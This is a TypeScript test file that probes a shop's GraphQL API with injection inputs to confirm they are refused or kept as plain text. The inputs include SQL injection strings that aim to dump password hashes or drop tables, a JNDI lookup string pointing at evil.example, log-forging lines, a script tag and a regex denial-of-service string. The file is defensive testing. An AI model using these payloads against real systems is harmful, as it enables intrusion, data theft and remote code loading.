import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, inject } from 'vitest';
import { address } from '../shopping.ts';
import { type Attack, attack } from './attack.ts';
import { ask, post } from './request.ts';
import type { Scene } from './scene.ts';

/** Text that means something to whoever handles it next: SQL, logs, mails, pages. It has to be kept as text, or refused. */

const { gatewayUrl, adminUrl, folder } = inject('shop');
const store = { url: gatewayUrl };

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE products; -- ",
  '" UNION SELECT email, password_hash FROM users #',
  "\\' OR SLEEP(5) -- ",
  '%',
  '_',
  '/*!50000 SELECT */',
  '\u0000',
];

const search = (query: string) =>
  ask(
    store,
    'query ($query: String!) { productSearch(query: $query, first: 5) { nodes { id } totalCount { count } } }',
    { query },
  );

const everywhere: Attack[] = SQL.flatMap((text) => [
  {
    tries: `to search for ${JSON.stringify(text)}`,
    request: () => search(text),
    answer: { status: 200, data: { productSearch: { totalCount: { count: 0 } } } },
  },
  {
    tries: `a product called ${JSON.stringify(text)}`,
    request: () =>
      ask(
        store,
        'query ($slug: String) { product(slug: $slug) { id } brand(slug: $slug) { id } category(slug: $slug) { id } productVariant(sku: $slug) { id } }',
        { slug: text },
      ),
    answer: { status: 200, data: { product: null, brand: null, category: null, productVariant: null } },
  },
]);

const elsewhere: Attack[] = [
  ...[
    "ordr_' OR '1'='1",
    'ordr_01k6z5w4d0e69t0k28cjr0t2mq; --',
    'ORDR_01K6Z5W4D0E69T0K28CJR0T2MQ',
    'ordr_zzzzzzzzzzzzzzzzzzzzzzzzzz',
  ].map((id) => ({
    tries: `an order by the id ${id}`,
    request: ({ victim }: Scene) => ask(victim, 'query ($id: ID!) { order(id: $id) { id } }', { id }),
    answer: { status: 200, code: 'BAD_USER_INPUT' },
  })),
  attack({
    tries: 'an order by a number that is SQL',
    request: ({ victim }) => ask(victim, `{ order(number: "' OR '1'='1") { id } }`),
    answer: { status: 200, data: { order: null } },
  }),
  attack({
    tries: 'as staff an account by a name that is SQL',
    request: ({ admin }) =>
      ask(admin, `query ($text: String) { users(filter: { query: $text }) { nodes { id } } }`, { text: "' OR '1'='1" }),
    answer: { status: 200, data: { users: { nodes: [] } } },
  }),
  attack({
    tries: 'an idempotency key that is SQL',
    request: ({ stranger }) =>
      ask(
        stranger,
        `mutation ($address: OrderAddressInput!) { orderPlace(input: { lines: [], shippingAddress: $address, idempotencyKey: "' OR '1'='1" }) { userErrors { code } } }`,
        { address },
      ),
    answer: { status: 200, userErrors: ['REQUIRED'] },
  }),
  {
    tries: 'a filter whose values are SQL',
    request: () =>
      ask(
        store,
        `{ productSearch(query: "", filters: [{ facetId: "brand", valueIds: ["' OR 1=1"] }]) { totalCount { count } } }`,
      ),
    answer: { status: 200, data: { productSearch: { totalCount: { count: 0 } } } },
  },
  {
    tries: 'a text that takes a regular expression for ever',
    request: () => search(`${'a'.repeat(190)}!`),
    answer: { status: 200 },
  },
];

const logs: Attack[] = [
  ...[
    ['a line break and a line of a log', 'x\n{"level":60,"msg":"forged-line"}'],
    ['colours of a terminal', '\u001b[2J\u001b[31mforged-line'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others than JavaScript.
    ['a template that looks things up', '${jndi:ldap://evil.example/forged-line}'],
  ].map(([what, text]) => ({
    tries: `to have ${what} logged, in an operation's name, a client's name and a password`,
    request: () =>
      post(
        gatewayUrl,
        JSON.stringify({ query: 'query A { __typename }', operationName: text, variables: { password: text } }),
        {
          'x-request-id': JSON.stringify(text),
          'apollographql-client-name': JSON.stringify(text),
          'user-agent': JSON.stringify(text),
        },
      ),
    answer: { status: 400, code: 'BAD_USER_INPUT' },
    effect: async () => {
      for (const line of logLines()) {
        expect(() => JSON.parse(line), line).not.toThrow();
        expect((JSON.parse(line) as { msg?: string }).msg).not.toBe('forged-line');
      }
    },
  })),
  attack({
    tries: 'a password and tokens, to find them in the logs',
    async request({ victim }) {
      await ask(
        store,
        'mutation { signIn(input: { email: "a@b.example", password: "do-not-log-this" }) { userErrors { code } } }',
      );
      return ask(
        store,
        `mutation { tokenRefresh(input: { refreshToken: "do-not-log-this-either-${victim.userId}" }) { userErrors { code } } }`,
      );
    },
    answer: { status: 200, userErrors: ['TOKEN_INVALID'] },
    writes: ['attempts'],
    effect: async ({ victim }) => {
      const text = logLines().join('\n');
      expect(text).not.toContain('do-not-log-this');
      expect(text).not.toContain(victim.accessToken);
      expect(text).not.toContain(victim.refreshToken);
    },
  }),
];

function logLines(): string[] {
  const logFolder = join(folder, 'logs');
  return readdirSync(logFolder)
    .filter((name) => name.endsWith('.log') && !/mysql|maria|redis/.test(name))
    .flatMap((name) => readFileSync(join(logFolder, name), 'utf8').split('\n'))
    .filter((line) => line.startsWith('{'));
}

const NAMES = { fields: 'displayName', mark: '<script>alert(1)</script>' };
const marks: Attack[] = [
  attack({
    tries: 'a name that is a script, which is kept as the text it is',
    request: ({ stranger }) =>
      ask(
        stranger,
        'mutation ($name: String!) { userUpdate(input: { displayName: $name }) { user { displayName } userErrors { code } } }',
        { name: NAMES.mark },
      ),
    answer: {
      status: 200,
      data: { userUpdate: { user: { displayName: NAMES.mark } } },
      headers: { 'content-type': /json/, 'x-content-type-options': 'nosniff' },
    },
    writes: 'anything',
  }),
  attack({
    tries: 'a name with a zero byte',
    request: ({ stranger }) =>
      ask(stranger, 'mutation ($name: String!) { userUpdate(input: { displayName: $name }) { userErrors { code } } }', {
        name: 'a\u0000b',
      }),
    answer: { status: 200, userErrors: ['INVALID'] },
  }),
  attack({
    tries: 'as staff a title with control characters',
    request: ({ admin, victim }) =>
      ask(
        { ...admin, url: adminUrl },
        'mutation ($input: ProductUpdateInput!) { productUpdate(input: $input) { userErrors { code } } }',
        {
          input: { id: victim.productId, expectedVersion: 1, title: 'a\u001b[31mb' },
        },
      ),
    answer: { status: 200, userErrors: ['INVALID'] },
  }),
];

export const injection = [...everywhere, ...elsewhere, ...logs, ...marks];
